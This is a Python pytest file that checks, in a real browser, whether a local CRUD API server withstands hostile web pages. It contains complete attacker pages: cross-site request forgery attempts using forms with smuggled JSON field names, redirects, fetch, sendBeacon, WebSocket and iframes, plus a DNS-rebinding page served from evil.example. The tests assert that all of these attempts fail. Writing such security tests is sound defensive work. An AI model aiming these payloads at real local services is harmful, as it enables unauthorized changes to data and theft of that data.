"""Pages in a real browser: what a foreign one can do to a server on this machine, and what an allowed one can."""

from __future__ import annotations

import json
import queue
from string import Template
from typing import Any

import httpx
import pytest

from tests.chromium import PAGE_TIMEOUT_S, browser, dumped
from tests.local_server import LocalServer, QuietHandler
from tests.tcp_proxy import TcpProxy

ARTICLE = {"title": "Sun", "content": "secret-of-the-sun", "author": "a"}


class Site(LocalServer):
    """A web site with one page. `reported()` waits for what the page's script sends to /report."""

    def __init__(self, page: str = "") -> None:
        self.page = page
        self._reports: queue.Queue[Any] = queue.Queue()
        self.at_switch = lambda: None
        site = self

        class Handler(QuietHandler):
            def do_GET(self) -> None:
                if self.path.startswith("/to?"):  # sends the browser on, with the same method and body
                    self._answer(307, location=self.path.removeprefix("/to?"))
                elif self.path == "/switch":
                    site.at_switch()  # before the page can go on
                    self._answer(200)
                else:
                    self._answer(200, site.page.encode())

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("content-length", 0)))
                if self.path == "/report":
                    site._reports.put(json.loads(body))
                    self._answer(204)
                else:
                    self.do_GET()

            def _answer(self, status: int, body: bytes = b"", location: str | None = None) -> None:
                self.send_response(status)
                if location is not None:
                    self.send_header("location", location)
                self.send_header("content-type", "text/html; charset=utf-8")
                self.send_header("content-length", str(len(body)))
                self.send_header("connection", "close")
                self.end_headers()
                self.wfile.write(body)
                self.close_connection = True

        super().__init__(Handler)

    def reported(self) -> Any:
        return self._reports.get(timeout=PAGE_TIMEOUT_S)


FOREIGN = Template("""<!doctype html><meta charset=utf-8><body><script>
const API = "$api", ARTICLE = '{"title": "evil", "content": "", "author": "evil"}';
const seen = {};
const wait = ms => new Promise(done => setTimeout(done, ms));

function frame(attributes) {
  const made = document.createElement("iframe");
  Object.assign(made, attributes);
  return new Promise(done => {
    made.onload = () => done(made);
    document.body.append(made);
    setTimeout(done, 3000, made);
  });
}

async function form(action, enctype, fields, document_ = document) {
  const target = "frame" + Math.random();
  await frame({name: target});
  const made = document.createElement("form");
  Object.assign(made, {action, method: "post", enctype, target});
  for (const [name, value] of Object.entries(fields)) {
    const field = document.createElement("input");
    Object.assign(field, {type: "hidden", name, value});
    made.append(field);
  }
  document.body.append(made);
  made.submit();
}

async function tried(name, work) {
  try { seen[name] = await work(); } catch (error) { seen[name] = "failed: " + error.name; }
}

async function run() {
  for (const kind of ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"]) {
    await form(API + "/article/sun/purge", kind, {});
    await form(API + "/article", kind, {'{"title": "evil", "content": "", "author": "': 'evil"}'});
    await form(API + "/article/batch", kind, {'{"operations": [{"op": "purge", "id": "sun"}], "x': '": 1}'});
    await form("/to?" + API + "/article/sun/purge", kind, {});
  }
  await frame({sandbox: "allow-scripts allow-forms", srcdoc:
    `<form method=post action="$${API}/article/sun/purge"></form><script>document.forms[0].submit()</` + "script>"});
  for (const mode of ["no-cors", "cors"]) {
    for (const credentials of ["omit", "include"]) {
      await tried("purge " + mode + credentials, async () =>
        (await fetch(API + "/article/sun/purge", {method: "POST", mode, credentials})).type);
      await tried("create " + mode + credentials, async () =>
        (await fetch(API + "/article", {method: "POST", mode, credentials, body: ARTICLE})).type);
      await tried("bytes " + mode + credentials, async () =>
        (await fetch(API + "/article", {method: "POST", mode, credentials, body: new Uint8Array([123])})).type);
      await tried("keepalive " + mode + credentials, async () =>
        (await fetch(API + "/article/sun/purge", {method: "POST", mode, credentials, keepalive: true})).type);
      await tried("read " + mode + credentials, async () => {
        const answer = await fetch(API + "/article/sun", {mode, credentials});
        return answer.type + (await answer.text());
      });
      await tried("list " + mode + credentials, async () =>
        (await (await fetch(API + "/article", {mode, credentials})).text()));
    }
  }
  for (const method of ["PUT", "PATCH", "DELETE"])
    await tried(method, async () => (await fetch(API + "/article/sun", {method, body: ARTICLE,
      headers: {"content-type": "application/json"}})).status);
  for (const body of [ARTICLE, new Blob([ARTICLE], {type: "text/plain"}),
                      new Blob([ARTICLE], {type: "application/json"}), new FormData(), new URLSearchParams("a=b")]) {
    navigator.sendBeacon(API + "/article", body);
    navigator.sendBeacon(API + "/article/sun/purge", body);
  }
  await tried("socket", () => new Promise((done, failed) => {
    const socket = new WebSocket(API.replace("http", "ws") + "/article");
    socket.onopen = () => done("open");
    socket.onerror = () => failed(new Error("refused"));
  }));
  for (const tag of ["script", "img", "link", "object", "video"])
    await tried(tag, () => new Promise((done, failed) => {
      const made = document.createElement(tag);
      made.onload = () => done("loaded"); made.onerror = () => done("error");
      if (tag === "link") { made.rel = "stylesheet"; made.href = API + "/article/sun"; }
      else if (tag === "object") made.data = API + "/docs"; else made.src = API + "/article/sun";
      document.body.append(made);
      setTimeout(done, 2000, "nothing");
    }));
  await frame({src: API + "/docs"});
  const opened = window.open(API + "/article/sun");
  await wait(500);
  await tried("window", async () => opened ? opened.document.body.innerText : "blocked");
  await wait(500);
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
}
run();
</script>""")


def put_sun(api: httpx.Client) -> str:
    answer = api.put("/article/sun", json=ARTICLE, headers={"if-none-match": "*"})
    assert answer.status_code == 201
    return answer.headers["etag"]


def as_foreign(site: Site) -> str:
    return f"http://evil.example:{site.port}/"


def test_a_foreign_page_changes_nothing_and_reads_nothing(serve, tmp_path):
    server = serve("disk", tmp_path)
    with httpx.Client(base_url=server.url) as api, Site(FOREIGN.substitute(api=server.url)) as site:
        etag = put_sun(api)
        with browser(as_foreign(site)) as said:
            seen = site.reported()
            console = said.read_text(errors="replace")
        assert api.get("/article/sun").headers["etag"] == etag
        assert api.get("/article/count?include_deleted=true").json() == {"count": 1}
    assert ARTICLE["content"] not in json.dumps(seen)
    for method in ("PUT", "PATCH", "DELETE", "socket"):
        assert seen[method].startswith("failed"), (method, seen[method])
    assert seen["read no-corsomit"] != "opaque", "Cross-Origin-Resource-Policy ends it"
    assert "Refused to display" in console or "frame-ancestors" in console, console[-2000:]


ALLOWED = Template("""<!doctype html><meta charset=utf-8><body><script>
const API = "$api";
async function run() {
  const json = {"content-type": "application/json"};
  const body = title => JSON.stringify({title, content: "", author: "page"});
  const seen = [];
  try {
    const made = await fetch(API + "/article", {method: "POST", headers: json, body: body("one")});
    const path = made.headers.get("location"), etag = made.headers.get("etag");
    seen.push(made.status, etag !== null);
    const match = {...json, "if-match": etag};
    const changed = await fetch(API + path, {method: "PATCH", headers: match, body: '{"title": "two"}'});
    seen.push(changed.status, (await (await fetch(API + path)).json()).data.title);
    const conflict = await fetch(API + path, {method: "PUT", headers: match, body: body("three")});
    seen.push(conflict.status, (await conflict.json()).type);
    seen.push((await fetch(API + path, {method: "DELETE"})).status);
    seen.push((await fetch(API + path)).status);
    seen.push((await fetch(API + "/article", {method: "POST", headers: json, body: "{}"})).status);
  } catch (error) { seen.push(String(error)); }
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
}
run();
</script>""")


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", "app.example"])
def test_a_page_of_an_allowed_origin_can_use_the_api(serve, tmp_path, host):
    """Allowed are pages of other ports of this machine (front ends in development) and origins of CRUDSTACK_CORS."""
    with Site() as site:
        origin = f"http://{host}:{site.port}"
        server = serve("disk", tmp_path, environment={"CRUDSTACK_CORS": origin} if host == "app.example" else {})
        site.page = ALLOWED.substitute(api=server.url)
        with browser(origin):
            seen = site.reported()
    conflict = [412, "urn:crudstack:version-conflict"]
    assert seen == [201, True, 200, "two", *conflict, 204, 410, 422]


REBOUND = """<!doctype html><meta charset=utf-8><body><script>
async function run() {
  await fetch("/switch");  // from here on new connections to the page's own name lead to the API
  while ((await fetch("/page")).ok);  // the browser may have made a connection before
  const seen = [];
  for (const [method, path] of [["GET", "/article/sun"], ["GET", "/article"], ["POST", "/article/sun/purge"],
                                ["PUT", "/article/sun"], ["DELETE", "/article/sun"], ["GET", "/healthz"]]) {
    const answer = await fetch(path, {method, body: method === "PUT" ? '{"title": "evil"}' : undefined,
                                      headers: {"content-type": "application/json"}});
    seen.push([answer.status, await answer.text()]);
  }
  await fetch("REPORT", {method: "POST", mode: "no-cors", body: JSON.stringify(seen)});
}
run();
</script>"""


def test_a_page_with_dns_rebinding_reads_nothing(serve, tmp_path):
    """The browser takes the API for the site of the page, so its same-origin policy does not protect the API."""
    server = serve("disk", tmp_path)
    with httpx.Client(base_url=server.url) as api, Site() as site, TcpProxy(f"http://127.0.0.1:{site.port}") as proxy:
        etag = put_sun(api)
        site.page = REBOUND.replace("REPORT", f"{as_foreign(site)}report")
        site.at_switch = lambda: proxy.lead_to(server.url)
        with browser(proxy.url.replace("127.0.0.1", "evil.example")):
            seen = site.reported()
        assert [status for status, _ in seen] == [421] * 6
        assert ARTICLE["content"] not in json.dumps(seen)
        assert api.get("/article/sun").headers["etag"] == etag


def test_the_docs_page_works_with_its_content_security_policy(serve, tmp_path):
    page, said = dumped(f"{serve('disk', tmp_path).url}/docs")
    assert "opblock-summary" in page
    assert "/article" in page
    assert "Content Security Policy" not in said
